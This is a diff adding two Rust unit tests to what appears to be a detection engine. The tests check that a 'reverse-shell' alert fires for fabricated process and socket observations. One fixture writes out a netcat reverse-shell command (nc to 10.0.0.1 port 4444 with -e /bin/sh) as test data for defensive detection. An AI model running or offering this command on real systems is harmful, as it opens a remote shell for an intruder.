@@ -795,3 +795,32 @@ fn lookup_of_pool_name_is_not_miner_command() {
     };
     assert_not_raised(&obs, "miner-command-line");
 }
+
+#[test]
+fn shell_exec_after_socket_dup_is_reverse_shell() {
+    let obs = Observations {
+        processes: vec![exec(2, "/bin/sh", &["/bin/sh"], 0.5)],
+        socket_calls: vec![SocketCall {
+            pid: 2,
+            call: "dup-stdio".to_string(),
+            address: None,
+            time: 0.4,
+        }],
+        ..Default::default()
+    };
+    assert_raised(&obs, "reverse-shell");
+}
+
+#[test]
+fn busybox_applet_reexec_uses_argv_zero() {
+    let obs = Observations {
+        processes: vec![exec(
+            2,
+            "/bin/sh",
+            &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"],
+            0.5,
+        )],
+        ..Default::default()
+    };
+    assert_raised(&obs, "reverse-shell");
+}
